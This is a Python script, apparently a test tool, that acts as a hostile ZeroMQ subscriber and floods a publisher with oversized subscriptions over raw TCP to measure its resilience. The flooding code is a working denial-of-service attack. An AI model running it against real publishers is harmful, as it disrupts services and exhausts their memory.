"""A hostile subscriber that speaks ZMTP 3.0 over a raw TCP socket (rfc.zeromq.org/spec/23):
it sends subscriptions as fast as the kernel takes them and keeps none of them itself, so a
flood costs the attacker nothing (a libzmq SUB would store each one in its own trie).

Run as a process: `python zmtp_attacker.py HOST PORT SECONDS SIZE COUNT` sends COUNT distinct
subscriptions of SIZE bytes per connection, reconnecting whenever the publisher drops it,
until SECONDS have passed; it prints how many connections it made, subscriptions it began to
send and subscriptions the kernel took whole (a publisher that refuses a large one at its
header may drop the connection before any is taken: how many were is a race with it).
"""

from __future__ import annotations

import socket
import struct
import sys
import time


def greeting() -> bytes:
    """NULL mechanism, as client (ZMTP 3.0 greeting: 64 bytes)."""
    return b"\xff" + b"\0" * 8 + b"\x7f" + b"\x03\x00" + b"NULL".ljust(20, b"\0") + b"\0" * 32


def frame(body: bytes, command: bool = False) -> bytes:
    flags = 0x04 if command else 0x00
    if len(body) <= 255:
        return bytes([flags, len(body)]) + body
    return bytes([flags | 0x02]) + struct.pack(">Q", len(body)) + body


def ready() -> bytes:
    prop = bytes([len(b"Socket-Type")]) + b"Socket-Type" + struct.pack(">I", 3) + b"SUB"
    return frame(b"\x05READY" + prop, command=True)


def attack(host: str, port: int, seconds: float, size: int, count: int) -> tuple[int, int, int]:
    end = time.monotonic() + seconds
    connections = began = sent = 0
    serial = 0
    while time.monotonic() < end:
        try:
            conn = socket.create_connection((host, port), timeout=1.0)
        except OSError:
            time.sleep(0.05)
            continue
        connections += 1
        try:
            conn.sendall(greeting() + ready())
            for _ in range(count):
                serial += 1
                topic = b"%010d" % serial
                began += 1
                conn.sendall(frame(b"\x01" + topic + b"x" * (size - len(topic))))
                sent += 1
                if time.monotonic() >= end:
                    break
            time.sleep(0.05)
        except OSError:
            pass  # the publisher dropped this connection: connect again
        finally:
            conn.close()
    return connections, began, sent


if __name__ == "__main__":
    host, port, seconds, size, count = sys.argv[1:6]
    made, began, sent = attack(host, int(port), float(seconds), int(size), int(count))
    print(f"{made} {began} {sent}", flush=True)
